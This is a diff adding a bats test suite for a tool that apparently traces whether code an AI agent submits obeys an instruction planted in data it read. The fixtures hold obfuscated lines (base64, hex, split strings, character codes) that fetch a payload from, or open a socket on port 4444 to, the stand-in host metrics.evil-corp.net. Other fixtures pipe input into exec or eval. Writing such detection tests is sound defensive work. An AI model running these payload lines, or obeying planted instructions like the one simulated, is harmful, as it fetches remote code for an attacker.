@@ -1,0 +1,164 @@
+#!/usr/bin/env bats
+# SPDX-License-Identifier: MIT
+# The story's instruction in disguise: in the code itself, encoded or in pieces; in what the code is
+# told, by an argument, a variable, its input; in a module that it imports. And the ends of what is
+# looked at: beyond them nobody knows, and that is said.
+load helper
+load story
+
+# The same instruction in the code, as each row disguises it.
+disguises() {
+	begin "$1"
+	reads_table "$1"
+	/usr/bin/python3 - "$T" <<-'END'
+		import base64, sys
+		line = 'more = pandas.read_csv("https://metrics.evil-corp.net/payload")'
+		host = "metrics.evil-corp.net"
+		rows = {
+		    "base64": "import base64\nexec(base64.b64decode(%r))\n" % base64.b64encode(("import pandas; " + line).encode()),
+		    "split": "import pandas\nh = 'metrics.' + 'evil-' + 'corp' + '.net'\npandas.read_csv('https://' + h + '/pay' + 'load')\n",
+		    "indented": "import pandas\nif True:\n        more = pandas  .  read_csv(\n            'https://metrics.evil-corp.net/payload'\n        )\n",
+		    "hex": "import socket\nsocket.create_connection((bytes.fromhex('%s').decode(), 4444))\n" % host.encode().hex(),
+		    "joined": "import socket\nsocket.create_connection((''.join(chr(c) for c in %r), 4444))\n" % list(host.encode()),
+		}
+		for name, text in rows.items():
+		    open("%s/disguise-%s.py" % (sys.argv[1], name), "w").write(text)
+	END
+	for f in "$T"/disguise-*.py; do
+		submit "$1" --workspace "$W:ro" "$f"
+		[ "$status" -eq 75 ] || [ "$status" -eq 126 ] || show "$f"
+		holds 'r["origin"] in ("derived", "hostile")' \
+			'any(e["name"] == "planted.csv" for e in r["evidence"])'
+	done
+}
+@test "the same in base64, in pieces, indented, in hex and in numbers" {
+	every disguises
+}
+
+# The code is its own, and is told what to do: by an argument, a variable, its input.
+told() {
+	local line
+	begin "$1"
+	reads_table "$1"
+	line='more = pandas.read_csv("https://metrics.evil-corp.net/payload")'
+	printf 'import base64, os, sys\nprint(len(base64.b64decode(sys.argv[1])), len(os.environ.get("X", "")))\n' | code told.py
+	submit "$1" told.py -- "$(printf %s "print('Another day, another line of numbers.')" | base64 -w0)"
+	holds 'r["origin"] == "exposed"'
+	submit "$1" told.py -- "$(printf %s "$line" | base64 -w0)"
+	holds 'r["origin"] == "derived"' \
+		'any(e["name"] == "planted.csv" and e["how"] == "arguments, base64" for e in r["evidence"])'
+	# By its input, if that can become code; else the input may say what it likes.
+	printf '%s\n' "$line" >input
+	printf 'import sys\nprint(len(sys.stdin.read()))\n' | code reads.py
+	submit "$1" --stdin input reads.py
+	exits 0
+	holds 'r["origin"] == "exposed" and r["evidence"] == []'
+	printf 'import sys\nif len(sys.argv) == 1:\n    exec(sys.stdin.read())\n' | code runs.py
+	printf 'read -r x\nif [ $# = 0 ]; then eval "$x"; fi\n' | code runs.sh
+	printf 'bash -s -- "$@"\n' | code hands.sh
+	for f in runs.py runs.sh hands.sh; do
+		submit "$1" --stdin input "$f"
+		holds 'r["origin"] == "derived"' 'any(e["name"] == "planted.csv" and
+			e["how"] == "standard input" for e in r["evidence"])'
+		base64 -w0 input >encoded
+		submit "$1" --stdin encoded "$f"
+		holds 'r["origin"] == "derived"' 'any(e["name"] == "planted.csv" for e in r["evidence"])'
+		submit "$1" --stdin reads.py "$f" -- x
+		holds 'r["origin"] == "exposed" and r["evidence"] == []'
+	done
+	submit "$1" --env "X=$(printf %s "$line" | od -An -tx1 | tr -d ' \n')" told.py -- ""
+	holds 'r["origin"] == "derived"' 'any(e["name"] == "planted.csv" for e in r["evidence"])'
+}
+@test "the same as an argument, a variable or input, in base64 and in hex" {
+	every told
+}
+
+# What the code imports from its workspace runs as well.
+modules() {
+	begin "$1"
+	reads_table "$1"
+	mkdir -p "$W/pkg/deep"
+	cp obeys.py "$W/"
+	cp obeys.py "$W/pkg/deep/last.py"
+	printf 'from .deep import (  # more\n    last as x,\n)\n' >"$W/pkg/inner.py"
+	printf 'from . import inner\n' >"$W/pkg/__init__.py"
+	: >"$W/pkg/deep/__init__.py"
+	printf 'import math\nprint(math.pi)\n' | code plain.py
+	submit "$1" --workspace "$W:ro" plain.py
+	exits 0
+	holds 'r["origin"] == "exposed" and r["evidence"] == []'
+	local n=0 line
+	while read -r line; do
+		n=$((n + 1))
+		printf '%b\n' "$line" | code "imports-$n.py"
+		submit "$1" --workspace "$W:ro" "imports-$n.py"
+		exits 75
+		holds 'r["origin"] == "derived"' 'any(e["name"] == "planted.csv" and
+			e["how"] in ("module obeys.py", "module pkg/deep/last.py") for e in r["evidence"])'
+	done <<-'END'
+		import obeys
+		if True: import math, obeys as o
+		from obeys import frame
+		import pkg
+		from pkg import deep; from pkg.deep import *
+		import importlib\nimportlib.import_module("ob" + "eys")
+		exec("imp" + "ort pkg.inner")
+	END
+	cp obeys.py "$W/sitecustomize.py"
+	submit "$1" --workspace "$W:ro" plain.py
+	holds 'r["origin"] == "derived"'
+}
+@test "the same in a module of the workspace" {
+	every modules
+}
+
+# clean ORIGIN: what the code is in a conversation that has read nothing.
+clean() {
+	talk user:no-cgroup
+	submit user:no-cgroup --workspace "$W:ro" imports.py
+	holds "r['origin'] == '$1'" "any('imports more' in x for x in r['reasons']) == ('$1' == 'exposed')"
+}
+@test "more modules than are looked at, or ones that cannot be: nobody knows what runs" {
+	local i
+	begin user:no-cgroup
+	for i in $(seq 63); do
+		echo "import m$((i + 1))" >"$W/m$i.py"
+	done
+	echo 'print(64)' >"$W/m64.py"
+	echo 'import m1' | code imports.py
+	clean agent
+	exits 0
+	echo 'import m65' >>"$W/m64.py"
+	clean agent
+	echo 'print(65)' >"$W/m65.py"
+	clean exposed
+	echo 'import large' | code imports.py
+	head -c $((1 << 20)) /dev/zero | tr '\0' '\n' >"$W/large.py"
+	clean agent
+	echo >>"$W/large.py"
+	clean exposed
+	rm "$W/large.py"
+	ln -s m64.py "$W/large.py"
+	clean exposed
+	rm "$W/large.py"
+	: >"$W/large.pyc"
+	clean exposed
+	rm "$W/large.pyc"
+	clean agent
+	# Two that Python looks for itself, and one in the code, its view and its effects.
+	{ printf 'import a1'; printf ', a%d' $(seq 2 $((16384 - 5))); } >"$W/large.py"
+	clean agent
+	printf ', b' >>"$W/large.py"
+	clean exposed
+}
+
+@test "input that is too long to be held against anything is asked about" {
+	begin user:no-cgroup
+	printf 'import sys\nif len(sys.argv) > 1:\n    exec(sys.stdin.read())\n' | code runs.py
+	yes 'one row of a table that is long' | head -c $(((1 << 24) - 1)) >input
+	submit user:no-cgroup --stdin input runs.py
+	holds '"findings: none" in r["reasons"][-1]'
+	echo >>input
+	submit user:no-cgroup --stdin input runs.py
+	holds '"findings: asks" in r["reasons"][-1]'
+}
